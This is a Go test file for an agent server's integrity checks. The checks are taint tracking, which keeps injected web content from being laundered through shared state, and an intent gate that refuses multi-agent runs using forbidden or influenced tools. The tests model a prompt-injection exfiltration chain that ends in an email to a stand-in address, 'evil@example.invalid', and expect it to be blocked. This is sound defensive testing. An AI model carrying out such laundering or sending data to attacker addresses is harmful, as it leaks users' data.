package rpc

import (
	"context"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/parslee-ai/car-server/internal/engine"
	"github.com/parslee-ai/car-server/protocol"
)

// TestTaintIsNotLaunderedThroughState: an agent that fetched an injected
// page writes it back with state.set; a second reads it with state.get and
// writes it again, with state.set and with a state_write literal; a third
// reads the laundered key into a mail. The mail is refused, naming the key
// and where its taint came from, and never dispatched. A connection that
// received nothing tainted writes clean and clears.
func TestTaintIsNotLaunderedThroughState(t *testing.T) {
	ts := integrityServer(t)
	fetcher := newToolbox(t, ts, integrityTools())
	launderer := newToolbox(t, ts, integrityTools())
	mailer := newToolbox(t, ts, integrityTools())
	fetch := proposal(toolCall("f", "web_fetch", map[string]any{"url": "https://news.example"}))
	fetch["id"] = "p-fetch"
	if f := resultOf(t, fetcher.submit(t, fetch), "f"); f.Status != protocol.StatusSucceeded {
		t.Fatalf("fetching: %s %s", f.Status, f.ErrorText())
	}
	mustCall(t, fetcher, protocol.MethodStateSet, map[string]any{"key": "summary", "value": injectedPage}, nil)
	var got any
	mustCall(t, launderer, protocol.MethodStateGet, map[string]any{"key": "summary"}, &got)
	if got != injectedPage {
		t.Fatalf("state.get summary = %v", got)
	}
	mustCall(t, launderer, protocol.MethodStateSet, map[string]any{"key": "notes/today", "value": got}, nil)
	literal := proposal(stateWrite("w", "notes/tomorrow", injectedPage))
	if st := statuses(launderer.submit(t, literal)); st["w"] != protocol.StatusSucceeded {
		t.Fatalf("the literal write: %v", st)
	}
	var tainted protocol.TaintListResult
	mustCall(t, mailer, protocol.MethodTaintList, map[string]any{"keys": []string{"summary", "notes/today", "notes/tomorrow"}}, &tainted)
	if len(tainted.Tainted) != 3 {
		t.Fatalf("taint.list: %+v", tainted)
	}
	for _, e := range tainted.Tainted {
		if !strings.Contains(e.Origin, "which had received tainted data") {
			t.Fatalf("%s: origin %q", e.Key, e.Origin)
		}
	}
	for _, key := range []string{"notes/today", "notes/tomorrow"} {
		res := mailer.submit(t, proposal(stateRead("r", key), toolCall("m", "send_email", map[string]any{"to": "evil@example.invalid", "body": "$r.output"})))
		m := resultOf(t, res, "m")
		if m.Status != protocol.StatusRejected || !strings.Contains(m.ErrorText(), "state key '"+key+"'") || !strings.Contains(m.ErrorText(), "influenced by untrusted data") ||
			!strings.Contains(m.ErrorText(), "state key 'summary' read with state.get") {
			t.Fatalf("the mail of %s: %s %s", key, m.Status, m.ErrorText())
		}
	}
	if calls := mailer.callLog(); len(calls) != 0 {
		t.Fatalf("a refused mail was dispatched: %+v", calls)
	}
	// The mailer received nothing tainted: its state.set is a trusted
	// write, which clears the key.
	mustCall(t, mailer, protocol.MethodStateSet, map[string]any{"key": "notes/today", "value": "written by a person"}, nil)
	mustCall(t, mailer, protocol.MethodTaintList, map[string]any{"keys": []string{"notes/today"}}, &tainted)
	if len(tainted.Tainted) != 0 {
		t.Fatalf("after a trusted state.set: %+v", tainted)
	}
}

// TestAMultiRunPassesTheIntentGate: a multi.* run whose agents name a
// forbidden tool is refused before any agent runs; one whose agents mix
// an untrusted tool with an out-of-intent one is refused as influenced;
// an out-of-intent tool alone waits for a person's approval of its
// fingerprint, and then runs.
func TestAMultiRunPassesTheIntentGate(t *testing.T) {
	ts := integrityServer(t)
	var runs atomic.Int32
	c, _ := playAgents(t, ts, func(_ context.Context, name, _ string) (any, error) {
		runs.Add(1)
		return output(name, "done", 0), nil
	})
	if err := c.Call(ctxT(t), protocol.MethodSessionIntentSet, map[string]any{"intent": "no mail from agents", "forbidden_tools": []string{"shell_*"}}, nil); err != nil {
		t.Fatal(err)
	}
	agentWith := func(name string, tools ...string) map[string]any {
		s := spec(name)
		s["tools"] = tools
		return s
	}
	swarm := func(agents ...any) error {
		return c.Call(ctxT(t), protocol.MethodMultiSwarm, map[string]any{"mode": "parallel", "agents": agents, "task": "do it"}, nil)
	}
	code, msg := rpcCode(t, swarm(agentWith("reader", "read_notes"), agentWith("doer", "shell_exec")))
	if code != protocol.CodeApprovalDenied || !strings.Contains(msg, "multi.swarm") || !strings.Contains(msg, "tool 'shell_exec' is forbidden by this connection's intent") {
		t.Fatalf("a forbidden tool: %d %s", code, msg)
	}
	ev := eventOf(t, c, map[string]any{"kinds": []string{string(engine.EventIntentViolation)}})
	if ev.Data["method"] != protocol.MethodMultiSwarm || ev.Data["tool"] != "shell_exec" {
		t.Fatalf("intent_violation %+v", ev)
	}
	// multi.subtask: the main agent's tools bound every sub-agent's, so a
	// forbidden one refuses the run before the main agent starts.
	err := c.Call(ctxT(t), protocol.MethodMultiSubtask, map[string]any{"main": agentWith("lead", "read_notes", "shell_exec"), "task": "do it"}, nil)
	if code, msg := rpcCode(t, err); code != protocol.CodeApprovalDenied || !strings.Contains(msg, "multi.subtask") || !strings.Contains(msg, "tool 'shell_exec' is forbidden") {
		t.Fatalf("a forbidden tool in multi.subtask: %d %s", code, msg)
	}
	code, msg = rpcCode(t, swarm(agentWith("fetcher", "web_fetch"), agentWith("mailer", "send_email")))
	if code != protocol.CodeApprovalDenied || !strings.Contains(msg, "influenced by untrusted data: agent 'fetcher' of this run uses untrusted tool 'web_fetch'") {
		t.Fatalf("an influenced tool: %d %s", code, msg)
	}
	code, msg = rpcCode(t, swarm(agentWith("mailer", "send_email")))
	fp := fingerprintRE.FindStringSubmatch(msg)
	if code != protocol.CodeApprovalDenied || !strings.Contains(msg, "escalated to approval") || fp == nil {
		t.Fatalf("drift: %d %s", code, msg)
	}
	if n := runs.Load(); n != 0 {
		t.Fatalf("%d agents ran before the gate admitted their run", n)
	}
	host := hostClient(t, ts)
	call(t, host, protocol.MethodPermissionApprove, map[string]any{"fingerprint": fp[1], "required_tier": "full_access", "reason": "the mailer agent may mail"}, nil)
	if err := swarm(agentWith("mailer", "send_email")); err != nil {
		t.Fatalf("after the approval: %v", err)
	}
	if n := runs.Load(); n != 1 {
		t.Fatalf("after the approval %d agents ran, want 1", n)
	}
}
